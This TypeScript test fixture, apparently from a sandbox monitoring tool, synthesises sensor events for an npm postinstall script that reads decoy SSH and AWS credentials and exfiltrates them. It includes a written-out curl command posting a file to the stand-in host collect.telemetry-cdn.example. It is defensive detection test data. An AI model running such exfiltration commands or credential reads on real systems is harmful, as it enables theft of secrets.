import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Completeness, Event, EventKind, Phase } from '../../src/base/event-schema.ts';

/** A run as the sensors would write it: an install script that reads an SSH key, wraps it up and posts it. */

type Json = Event['fields'];

interface Who {
  readonly pid: number;
  readonly parent: number;
  readonly name: string;
}

const shell: Who = { pid: 4127, parent: 4100, name: 'sh' };
const npm: Who = { pid: 4128, parent: 4127, name: 'node' };
const script: Who = { pid: 4140, parent: 4128, name: 'sh' };
const thief: Who = { pid: 4141, parent: 4140, name: 'node' };
const curl: Who = { pid: 4142, parent: 4141, name: 'curl' };
const home = '/home/dev';

class Sample {
  readonly events: Event[] = [];
  #ns = 81_000_000_000_000n;
  #phase: Phase = 'install';

  after(ms: number, phase: Phase = this.#phase): void {
    this.#ns += BigInt(Math.round(ms * 1_000_000));
    this.#phase = phase;
  }

  add(who: Who | null, kind: EventKind, fields: Json, more: Partial<Event> = {}): void {
    this.after(0.37);
    const wallMs = 1_767_225_600_000 + Number((this.#ns - 81_000_000_000_000n) / 1_000_000n);
    this.events.push({
      seq: this.events.length,
      at: { monotonicNs: String(this.#ns), wall: new Date(wallMs).toISOString() },
      run: 'sample',
      phase: this.#phase,
      source: who === null ? 'wire' : 'seccomp-notify',
      ...(who === null ? {} : { process: { pid: who.pid, parent: who.parent, name: { text: who.name } } }),
      kind,
      fields,
      ...more,
    });
  }

  start(who: Who, argv: readonly string[]): void {
    this.add(who, 'fork', {});
    this.add(who, 'exec', { path: { text: `/usr/bin/${who.name}` }, argv: argv.map((text) => ({ text })) });
  }

  open(who: Who, path: string, access = 'read', more: Partial<Event> = {}, isFolder = false): void {
    const isWrite = access !== 'read';
    const fields = { path: { text: path }, access, creates: isWrite, truncates: isWrite, isFolder };
    this.add(who, 'open', fields, more);
  }

  libraries(who: Who, number: number): void {
    for (let at = 0; at < number; at += 1) this.open(who, `/usr/lib/x86_64-linux-gnu/lib${at}.so.6`);
  }
}

const asked = { name: 'collect.telemetry-cdn.example', address: '10.64.0.7', port: 443 };
const wire = { asked, peer: { address: '10.63.0.2', port: 40112 }, transport: 'tcp', connection: 3, isInsideTls: true };

function install(sample: Sample): void {
  sample.start(shell, ['sh', '-c', 'npm install ./left-padder && npm test']);
  sample.libraries(shell, 6);
  sample.add(shell, 'heartbeat', { nonce: 'a1', number: 1, of: 'open' });
  sample.start(npm, ['node', '/usr/bin/npm', 'install', './left-padder']);
  sample.libraries(npm, 208);
  sample.open(npm, '/etc/passwd');
  sample.open(npm, '/work/left-padder/package.json');
  sample.open(npm, '/work/left-padder/README.md');
  sample.open(npm, `${home}/.npm/_logs/2026-01-01T00_00_00_000Z-debug-0.log`, 'write');
  sample.add(npm, 'mkdir', { path: { text: '/work/node_modules' }, mode: 0o755 });
  for (let at = 0; at < 40; at += 1) sample.open(npm, `/work/node_modules/left-padder/lib/part-${at}.js`);
  const deep =
    '/work/node_modules/@example-organisation/a-package-with-a-rather-long-name/node_modules/inner/dist/index.js';
  sample.open(npm, deep, 'write');
  sample.add(npm, 'rename', { from: { text: '/work/package-lock.json.tmp' }, to: { text: '/work/package-lock.json' } });
}

function steal(sample: Sample): void {
  sample.after(120);
  sample.start(script, ['sh', '-c', 'node scripts/postinstall.js']);
  sample.libraries(script, 6);
  sample.start(thief, ['node', 'scripts/postinstall.js']);
  sample.libraries(thief, 190);
  sample.open(thief, '/work/left-padder/scripts/postinstall.js');
  sample.open(thief, home, 'read', {}, true);
  sample.open(thief, `${home}/.ssh`, 'read', {}, true);
  const key = { path: { text: `${home}/.ssh/id_ed25519` } };
  sample.open(thief, `${home}/.ssh/id_ed25519`);
  sample.add(thief, 'bait-read', { ...key, decoy: '.ssh/id_ed25519', canaries: ['ssh-key-1a2b3c4d'] });
  const aws = { path: { text: `${home}/.aws/credentials` }, decoy: '.aws/credentials', canaries: ['aws-secret-0a0b'] };
  sample.add(thief, 'bait-read', aws);
  sample.open(thief, '/root/.bashrc', 'write', { outcome: 'denied' });
  sample.open(thief, '/tmp/odd \u001b[31mname\n.txt', 'write');
  for (let at = 0; at < 5; at += 1) sample.open(thief, '/tmp/lock', 'read', { outcome: 'failed' });
  sample.add(thief, 'memfd', { name: { text: 'x' } });
  sample.add(thief, 'kernel', { call: 'unshare' }, { outcome: 'denied' });
  sample.start(curl, ['curl', '-s', '--data-binary', '@/tmp/.cache-7f3a', `https://${asked.name}/v1/metrics`]);
  sample.libraries(curl, 31);
}

function send(sample: Sample): void {
  const question = { questions: [{ name: asked.name, type: 'A' }], over: 'udp' };
  sample.add(curl, 'connect', { family: 'ipv4', address: '10.63.0.1', port: 53 });
  sample.add(null, 'dns-query', { ...question, isReadable: true });
  sample.add(null, 'dns-answer', { ...question, code: 0, records: 1, addresses: [asked.address] });
  sample.add(curl, 'connect', { family: 'ipv4', address: asked.address, port: 443 });
  sample.add(null, 'tls-hello', { ...wire, serverName: asked.name, alpn: ['h2', 'http/1.1'] });
  const request = { ...wire, method: 'POST', host: asked.name, path: '/v1/metrics' };
  const body = { base64: Buffer.alloc(548, 'QUJD').toString('base64'), droppedBytes: 0 };
  sample.add(null, 'http-request', { ...request, version: '2', bytes: body });
  sample.add(null, 'leak', {
    ...wire,
    canary: 'ssh-key-1a2b3c4d',
    vendor: 'ssh-key',
    kind: 'key',
    planted: 'file .ssh/id_ed25519',
    encodings: ['base64'],
    via: `${asked.name}:443`,
  });
  sample.add(null, 'http-response', { ...request, status: 200, reason: 'OK' });
  sample.add(curl, 'exit', { code: 0 });
  sample.add(thief, 'unlink', { path: { text: '/tmp/.cache-7f3a' }, isFolder: false });
}

function finish(sample: Sample): void {
  for (const who of [thief, script, npm]) {
    sample.after(4);
    sample.add(who, 'exit', { code: 0 });
  }
  sample.after(2500, 'use');
  const message = { source: 'tap', call: 'call-7' };
  sample.add(
    null,
    'message',
    { direction: 'to-target', method: { text: 'tools/call' }, id: 7, sizeBytes: 184 },
    message,
  );
  sample.open(shell, '/work/data/notes.txt', 'read', { call: 'call-7' });
  sample.add(null, 'message', { direction: 'from-target', id: 7, sizeBytes: 2110 }, message);
  sample.add(shell, 'exit', { signal: 'SIGTERM' });
  const disk = { source: 'disk-diff' };
  sample.add(null, 'disk-change', { path: { text: '/work/node_modules' }, change: 'created', sizeBytes: 4096 }, disk);
  sample.add(null, 'limit-hit', { limit: 'wallMs', detail: 'still running after 5 s' }, { source: 'box' });
}

export function sampleEvents(): readonly Event[] {
  const sample = new Sample();
  install(sample);
  steal(sample);
  send(sample);
  finish(sample);
  return sample.events;
}

export function sensor(source: string, change: Partial<Completeness> = {}): Completeness {
  return {
    source,
    attachedBeforeExec: true,
    received: 512,
    dropped: 0,
    merged: 0,
    truncated: 0,
    missingPoints: [],
    heartbeats: { expected: 4, seen: 4 },
    ...change,
  };
}

export function writeRun(folder: string, events: readonly Event[], sensors?: readonly Completeness[]): string {
  mkdirSync(folder, { recursive: true });
  const path = join(folder, 'events.ndjson');
  writeFileSync(path, events.map((event) => `${JSON.stringify(event)}\n`).join(''));
  if (sensors !== undefined) writeFileSync(join(folder, 'completeness.json'), JSON.stringify(sensors));
  return path;
}
